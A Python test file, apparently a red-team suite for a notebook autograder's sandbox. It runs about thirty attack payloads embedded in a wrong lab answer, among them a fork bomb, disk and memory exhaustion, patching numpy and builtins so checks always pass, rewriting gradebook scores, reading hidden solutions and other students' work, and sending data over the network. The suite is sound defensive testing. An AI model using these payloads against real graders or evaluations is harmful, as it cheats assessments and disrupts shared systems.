@@ -1,0 +1,226 @@
+"""The red-team suite: attacks on the grader, through the real pipeline (sandbox, judge, nbgrader).
+
+One batch of lab 2 submissions is graded once: a wrong answer (the catalogue's
+``std-of-products`` mutant: 5 points lost on ``dot_product_std``) on its own, the same wrong
+answer plus each attack, structural tampering with the notebook, and correct bystanders in the
+same batch. Every attack must score no more than the wrong answer alone and disturb nobody.
+"""
+
+from __future__ import annotations
+
+import copy
+import socket
+import sqlite3
+import threading
+from pathlib import Path
+
+import pytest
+
+from harness import REPO, scratch_course
+from mlbook import submissions
+from mlbook.catalogue import load_catalogue
+from mlbook.grading import GradingOptions, autograde
+from mlbook.notebooks import grade_id, read_nb
+from mlbook.results import collect
+from mlbook.sandbox.limits import GiB, Limits
+from mlbook.status import ERROR, GRADED
+
+LAB = "lab02_scaling"
+pytestmark = [pytest.mark.xdist_group("redteam"), pytest.mark.slow]
+WRONG = "std-of-products"
+BYSTANDERS = ("bystander-a", "bystander-m", "bystander-z")  # graded before, among and after the attacks
+LIMITS = Limits(cell_seconds=15, notebook_seconds=100, memory_bytes=3 * GiB, processes=64, scratch_bytes=128 * 2**20)
+
+
+def code_attacks(root: Path, port: int) -> dict[str, str]:
+    """Attack code appended to the wrong answer's cell (it runs right after the student's def)."""
+    return {
+        "loop-interruptible": "while True:\n    pass\n",
+        "loop-ignoring-sigint": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n",
+        "os-exit": "import os\nos._exit(1)\n",
+        "kill-self": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n",
+        "sys-exit": "import sys\nsys.exit()\n",
+        "exit-builtin": "exit()\n",
+        "eat-memory": "hog = []\nwhile True:\n    hog.append(bytearray(64 * 2**20))\n",
+        "fork-bomb": "import os\nwhile True:\n    os.fork()\n",
+        "fill-disk": ("import os\nfor d in ('/tmp', os.path.expanduser('~'), os.getcwd()):\n    try:\n"
+                      "        with open(os.path.join(d, 'fill'), 'wb') as f:\n            while True:\n"
+                      "                f.write(b'x' * 2**20)\n    except OSError as e:\n        print('disk full:', e)\n"),
+        "many-lines": "for i in range(500_000):\n    print(i)\n",
+        "huge-line": "print('x' * 50_000_000)\n",
+        "patch-numpy": ("import numpy as np\nnp.testing.assert_allclose = lambda *a, **k: None\n"
+                        "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones_like(a, bool)\n"),
+        "patch-torch": ("import torch\ntorch.testing.assert_close = lambda *a, **k: None\n"
+                        "torch.allclose = lambda *a, **k: True\n"),
+        "patch-builtins": "import builtins\nbuiltins.abs = lambda x: 0 * x\nbuiltins.all = lambda it: True\n",
+        "patch-helpers": ("import mlbook_helpers.checks as checks\nnop = lambda *a, **k: None\n"
+                          "for name in dir(checks):\n    if name.startswith('expect'):\n"
+                          "        setattr(checks, name, nop)\n        globals()[name] = nop\n"),
+        "input-transformer": "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n",
+        "ast-transformer": ("import ast\nclass Nothing(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
+                            "        return ast.Module(body=[], type_ignores=[])\n"
+                            "get_ipython().ast_transformers.append(Nothing())\n"),
+        "custom-exc": ("get_ipython().set_custom_exc((BaseException,),\n"
+                       "    lambda shell, etype, evalue, tb, tb_offset=None: None)\n"),
+        "write-gradebook": (f"import sqlite3\nfor p in ('../../../gradebook.db', '{root}/gradebook.db'):\n    try:\n"
+                            "        db = sqlite3.connect(p)\n        db.execute('update grade set auto_score = 99')\n"
+                            "        db.commit()\n    except Exception as e:\n        print('gradebook:', type(e).__name__)\n"),
+        "read-source": (f"import glob\nfor p in glob.glob('{root}/source/*/*.ipynb') + glob.glob('{REPO.root}/mlbook/labs/*/*.py'):\n"
+                        "    print(open(p).read())\n"),
+        "read-other-student": (f"import glob\nfor p in glob.glob('{root}/submitted/bystander-a/*/*.ipynb'):\n"
+                               "    print(open(p).read())\n"),
+        "network": (f"import socket\nfor addr in (('127.0.0.1', {port}), ('1.1.1.1', 80)):\n    try:\n"
+                    "        socket.create_connection(addr, timeout=3).sendall(b'leak')\n"
+                    "    except OSError as e:\n        print('network:', e)\n"),
+        "detect-grading": ("import os\nif 'MLBOOK_PROBE_SOCKET' in os.environ or os.environ.get('NBGRADER_EXECUTION'):\n"
+                           "    try:\n        from mlbook.labs.lab02_scaling import hidden\n"
+                           "        dot_product_std = lambda d_k, n_pairs, rng: float(d_k) ** 0.5\n"
+                           "    except ImportError as e:\n        print('no grader code here:', e)\n"),
+        "speak-to-judge": ("import os, socket, struct\npath = os.environ.get('MLBOOK_PROBE_SOCKET')\nif path:\n"
+                           "    for frame in (b'\\xff' * 8, struct.pack('>Q', 5) + b'{}\\0\\0\\0'):\n"
+                           "        s = socket.socket(socket.AF_UNIX)\n        s.connect(path)\n"
+                           "        s.sendall(frame)\n        s.close()\n"),
+    }
+
+
+def structure_attacks() -> dict:
+    """Edits of the submitted notebook itself (the wrong answer stays in)."""
+    tests = ("test_dot_product_std", "test_dot_product_std_hidden")
+
+    def deleted(nb):
+        nb.cells = [c for c in nb.cells if grade_id(c) not in tests]
+
+    def edited(nb):
+        for c in nb.cells:
+            if grade_id(c) in tests:
+                c.source = "pass"
+
+    def points(nb):
+        for c in nb.cells:
+            if c.get("metadata", {}).get("nbgrader", {}).get("grade"):
+                c.metadata.nbgrader["points"] = 100
+
+    def renamed_id(nb):
+        for c in nb.cells:
+            if grade_id(c) in tests:
+                c.metadata.nbgrader["grade_id"] += "_free"
+
+    def duplicated(nb):
+        nb.cells = [d for c in nb.cells for d in ([c, copy.deepcopy(c)] if grade_id(c) in tests else [c])]
+
+    return {"deleted-tests": deleted, "edited-tests": edited, "changed-points": points,
+            "renamed-grade-id": renamed_id, "duplicated-cells": duplicated}
+
+
+@pytest.fixture(scope="module")
+def batch(tmp_path_factory):
+    root = tmp_path_factory.mktemp("redteam")
+    course = scratch_course(LAB, root)
+    wrong = next(m for m in load_catalogue(LAB).mutants if m.name == WRONG)
+    (cell, code), = wrong.cells.items()
+    listener = socket.create_server(("127.0.0.1", 0))
+    connections: list = []
+    threading.Thread(target=lambda: connections.append(listener.accept()), daemon=True).start()
+    attacks = code_attacks(root, listener.getsockname()[1])
+    submissions.submit(course, "wrong", LAB, submissions.reference(course, LAB, wrong.cells))
+    for name, attack in attacks.items():
+        submissions.submit(course, f"attack-{name}", LAB, submissions.reference(course, LAB, {cell: code + "\n" + attack}))
+    for name, edit in structure_attacks().items():
+        nb = submissions.reference(course, LAB, wrong.cells)
+        edit(nb)
+        submissions.submit(course, f"attack-{name}", LAB, nb)
+    submissions.submit(course, "attack-corrupt-json", LAB, raw=submissions.corrupt_text(course, LAB))
+    submissions.submit(course, "renamed", LAB, submissions.reference(course, LAB), filename=f"{LAB}-Copy1.ipynb")
+    for student in BYSTANDERS:
+        submissions.submit(course, student, LAB, submissions.reference(course, LAB))
+    run = autograde(course, LAB, force=True, progress=False, options=GradingOptions(workers=1, limits=LIMITS))
+    listener.close()
+    results = {r.student: r for r in collect(course, LAB)}
+    return course, results, run, connections
+
+
+def _auto(result) -> float:
+    return sum(c.score or 0.0 for c in result.auto_cells.values())
+
+
+def test_no_attack_scores_more_than_the_same_wrong_answer_alone(batch):
+    course, results, run, _ = batch
+    baseline = _auto(results["wrong"])
+    assert results["wrong"].status == GRADED and 0 < baseline < _auto(results["bystander-a"])
+    attacks = {s: r for s, r in results.items() if s.startswith("attack-")}
+    raised = {s: (_auto(r) if r.status == GRADED else 0.0) for s, r in attacks.items()
+              if r.status == GRADED and _auto(r) > baseline}
+    print(f"\nattacks tried: {len(attacks)}; attacks that raised a score: {len(raised)}; baseline {baseline}")
+    for student, result in sorted(attacks.items()):
+        print(f"  {student:32s} {result.status:6s} {_auto(result):5.1f}  {result.reason[:70]}")
+    assert len(attacks) >= 30
+    assert not raised, f"attacks that scored above the wrong answer ({baseline}): {raised}"
+
+
+def test_no_attack_disturbs_anyone_else_in_the_batch(batch):
+    _, results, _, _ = batch
+    for student in BYSTANDERS:
+        result = results[student]
+        assert result.status == GRADED, f"{student}: {result.reason}"
+        assert all(c.passed for c in result.auto_cells.values()), {g: c.message for g, c in result.auto_cells.items()}
+
+
+def test_a_renamed_notebook_is_matched_by_its_grade_ids_and_graded_with_a_warning(batch):
+    _, results, run, _ = batch
+    assert results["renamed"].status == GRADED
+    assert all(c.passed for c in results["renamed"].auto_cells.values())
+    warning = next(a.warning for a in run.attempts if a.student == "renamed")
+    assert "Copy1" in warning and "grade ids" in warning
+
+
+@pytest.mark.parametrize("student,reason", [
+    ("attack-corrupt-json", r"not valid JSON"),
+    ("attack-os-exit", r"kernel died"),
+    ("attack-kill-self", r"kernel died"),
+    ("attack-loop-ignoring-sigint", r"time budget|ignored the interrupt"),
+])
+def test_a_submission_that_fails_as_a_whole_is_an_error_with_a_reason(batch, student, reason):
+    import re
+
+    _, results, _, _ = batch
+    assert results[student].status == ERROR
+    assert re.search(reason, results[student].reason), results[student].reason
+
+
+def _outputs(path: Path) -> str:
+    """Everything the kernel printed into the autograded notebook (not the cells' sources)."""
+    texts = []
+    for cell in read_nb(path).cells:
+        for out in cell.get("outputs", []):
+            texts += [str(out.get("text", "")), str(out.get("evalue", "")), str(out.get("data", {}).get("text/plain", ""))]
+    return "\n".join(texts)
+
+
+def test_the_sandbox_has_no_network_and_no_view_of_the_course(batch):
+    course, _, _, connections = batch
+    assert connections == [], "a submission reached a server on the grader's loopback"
+    for student in ("attack-read-source", "attack-read-other-student", "attack-detect-grading", "attack-write-gradebook"):
+        printed = _outputs(course.autograded(student, LAB))
+        for secret in ("BEGIN SOLUTION", "BEGIN HIDDEN TESTS", "def check_", '"cells"', "fresh_rng"):
+            assert secret not in printed, f"{student} printed {secret!r} from inside the sandbox"
+    assert "No module named 'mlbook'" in _outputs(course.autograded("attack-detect-grading", LAB))
+    assert "Network is unreachable" in _outputs(course.autograded("attack-network", LAB))
+
+
+def test_outputs_are_capped_in_lines_and_bytes(batch):
+    course, results, _, _ = batch
+    for student in ("attack-many-lines", "attack-huge-line"):
+        path = course.autograded(student, LAB)
+        assert path.stat().st_size < 8 * 2**20, f"{student}'s autograded notebook is {path.stat().st_size} bytes"
+        assert "truncated" in _outputs(path).lower(), f"{student}'s output was not cut"
+
+
+def test_the_gradebook_is_intact_and_holds_each_student_once(batch):
+    course, results, _, _ = batch
+    db = sqlite3.connect(course.root / "gradebook.db")
+    assert db.execute("pragma integrity_check").fetchone()[0] == "ok"
+    assert db.execute("select max(auto_score) from grade").fetchone()[0] <= 5, "a grade above any cell's points"
+    per_student = db.execute("select student_id, count(*) from submitted_assignment group by student_id").fetchall()
+    assert all(n == 1 for _, n in per_student), per_student
+    graded = {s for s, r in results.items() if r.status == GRADED}
+    assert {s for s, _ in per_student} >= graded
